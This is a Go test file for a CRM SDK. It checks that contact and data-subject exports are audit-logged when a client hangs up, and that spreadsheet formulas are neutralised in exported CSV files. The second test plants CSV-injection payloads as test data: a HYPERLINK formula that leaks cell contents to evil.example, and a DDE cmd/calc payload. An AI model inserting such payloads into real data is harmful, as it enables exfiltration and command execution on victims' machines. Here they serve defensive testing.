package socialcrm_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/socialcrm/socialcrm"
	"github.com/socialcrm/socialcrm/crm"
	"github.com/socialcrm/socialcrm/internal/dbtest"
	"github.com/socialcrm/socialcrm/retention"
	"github.com/socialcrm/socialcrm/tenancy"
)

// hangUp is a client that takes the bytes it is sent and then goes away,
// as an HTTP client that hangs up does: its request's context ends. After
// limit bytes it refuses more.
type hangUp struct {
	bytes.Buffer
	cancel context.CancelFunc
	limit  int
}

var errHungUp = errors.New("client went away")

func (h *hangUp) Write(p []byte) (int, error) {
	h.cancel()
	if h.limit > 0 && h.Len()+len(p) > h.limit {
		n := h.limit - h.Len()
		h.Buffer.Write(p[:n])
		return n, errHungUp
	}
	return h.Buffer.Write(p)
}

// auditOf returns the entries of action in ctx's tenant, with the chain
// verified; none may hold any of values.
func auditOf(t *testing.T, sdk *socialcrm.SDK, ctx context.Context, action string, values ...string) []tenancy.AuditEntry {
	t.Helper()
	_, err := sdk.Audit.Verify(ctx)
	require.NoError(t, err, "the audit chain verifies")
	var out []tenancy.AuditEntry
	for after := int64(0); ; {
		es, err := sdk.Audit.List(ctx, tenancy.AuditListOptions{AfterSeq: after, Limit: 1000})
		require.NoError(t, err)
		for _, e := range es {
			b, err := json.Marshal(e)
			require.NoError(t, err)
			for _, v := range values {
				require.NotContains(t, string(b), v, "an audit entry holds a value")
			}
			if e.Action == action {
				out = append(out, e)
			}
		}
		if len(es) < 1000 {
			return out
		}
		after = es[len(es)-1].Seq
	}
}

// TestS10AuditExportsToAClientThatHangsUp: personal data that left the
// process is in the audit log, whether or not the client stayed to the
// end. A contacts CSV export whose client took the rows and went away,
// and a data-subject export whose client took part of the archive and
// went away (or all of it, then went away), each leave an entry naming
// the actor and the request, with counts and no value; the request of
// the interrupted export stays open, and a later export delivers it
// whole.
func TestS10AuditExportsToAClientThatHangsUp(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *dbtest.DB) {
		sdk := dsarSDK(t, db)
		a := dsarTenant(t, sdk, "hangup")
		p := seedPerson(t, sdk, a, "hana", "+14155550177")
		owner, ok := tenancy.FromContext(a)
		require.True(t, ok)

		// The contacts CSV: the client takes every row, then hangs up.
		ctx, cancel := context.WithCancel(a)
		client := &hangUp{cancel: cancel}
		n, _ := sdk.CRM.Contacts().ExportCSV(ctx, client, crm.ContactFilter{})
		require.Contains(t, client.String(), p.email, "the rows left")
		require.Positive(t, n)
		es := auditOf(t, sdk, a, "contacts.exported", p.crmValues...)
		require.Len(t, es, 1, "the export that left is in the audit log")
		require.Equal(t, owner.Actor(), es[0].Actor)

		// A data-subject export: the client takes the archive whole, then
		// hangs up before the engine records it.
		x := submitVerified(t, sdk, a, retention.KindAccess, map[string]string{crm.SubjectEmail: p.email})
		ctx, cancel = context.WithCancel(a)
		client = &hangUp{cancel: cancel}
		_, _ = sdk.Retention.Export(ctx, x.ID, client)
		archive := client.Len()
		text, _ := unzip(t, client.Bytes())
		require.Contains(t, text, p.crmValues[len(p.crmValues)-1], "the archive left whole")
		es = auditOf(t, sdk, a, "retention.exported", p.crmValues...)
		require.Len(t, es, 1, "an archive delivered whole is receipted")
		require.Equal(t, "request:"+x.ID, es[0].Target)
		require.Equal(t, owner.Actor(), es[0].Actor)

		// Another: the client takes part of the archive and hangs up.
		y := submitVerified(t, sdk, a, retention.KindAccess, map[string]string{crm.SubjectEmail: p.email})
		ctx, cancel = context.WithCancel(a)
		client = &hangUp{cancel: cancel, limit: archive / 2}
		_, err := sdk.Retention.Export(ctx, y.ID, client)
		require.Error(t, err)
		require.Positive(t, client.Len(), "part of the archive left")
		es = auditOf(t, sdk, a, "retention.export_interrupted", p.crmValues...)
		require.Len(t, es, 1, "an export interrupted after bytes left is in the audit log")
		require.Equal(t, "request:"+y.ID, es[0].Target)
		require.Equal(t, owner.Actor(), es[0].Actor)
		require.Empty(t, auditOf(t, sdk, a, "retention.exported")[1:], "an interrupted export is not receipted as delivered")
		y, err = sdk.Retention.Get(a, y.ID)
		require.NoError(t, err)
		require.Equal(t, retention.StatusOpen, y.Status, "nothing was delivered whole")
		var whole bytes.Buffer
		m, err := sdk.Retention.Export(a, y.ID, &whole)
		require.NoError(t, err)
		require.Equal(t, retention.OutcomeDataFound, m.Outcome)
		text, _ = unzip(t, whole.Bytes())
		require.Empty(t, slicesMissing(text, p.crmValues), "a later export is whole")
		require.True(t, strings.Contains(text, p.email))
	}, migrated)
}

// slicesMissing returns the values not in hay.
func slicesMissing(hay string, values []string) []string {
	var out []string
	for _, v := range values {
		if !strings.Contains(hay, v) {
			out = append(out, v)
		}
	}
	return out
}

// TestS10AuditDSARExportCSVIsNotAFormula: in a data-subject export, a
// value a spreadsheet would run as a formula (her name as a form gave it,
// a message) is written to the CSV files as text — an apostrophe in front
// — while the JSON files keep it exact.
func TestS10AuditDSARExportCSVIsNotAFormula(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *dbtest.DB) {
		sdk := dsarSDK(t, db)
		a := dsarTenant(t, sdk, "formula")
		evil := `=HYPERLINK("https://evil.example/?"&A1,"x")`
		c, err := sdk.CRM.Contacts().Create(a, crm.ContactInput{FirstName: evil, Email: "formula@example.com", Phone: "+14155550123"})
		require.NoError(t, err)
		_, err = sdk.CRM.Notes().Create(a, crm.NoteInput{ContactID: c.ID, Body: "@SUM(1+1)*cmd|' /C calc'!A0"})
		require.NoError(t, err)
		x := submitVerified(t, sdk, a, retention.KindAccess, map[string]string{crm.SubjectEmail: "formula@example.com"})
		var archive bytes.Buffer
		_, err = sdk.Retention.Export(a, x.ID, &archive)
		require.NoError(t, err)
		zr, err := zip.NewReader(bytes.NewReader(archive.Bytes()), int64(archive.Len()))
		require.NoError(t, err)
		var jsonText strings.Builder
		for _, f := range zr.File {
			rc, err := f.Open()
			require.NoError(t, err)
			data, err := io.ReadAll(rc)
			rc.Close()
			require.NoError(t, err)
			switch {
			case strings.HasSuffix(f.Name, ".csv"):
				recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
				require.NoError(t, err, f.Name)
				for _, rec := range recs {
					for _, cell := range rec {
						if cell != "" && strings.ContainsRune("=@\t\r", rune(cell[0])) {
							t.Errorf("%s: a cell a spreadsheet would run: %q", f.Name, cell)
						}
					}
				}
			case strings.HasSuffix(f.Name, ".json"):
				jsonText.Write(data)
			}
		}
		require.Contains(t, jsonText.String(), `"first_name":"=HYPERLINK(\"https://evil.example/?\"\u0026A1,\"x\")"`, "JSON keeps the value exact")
	}, migrated)
}
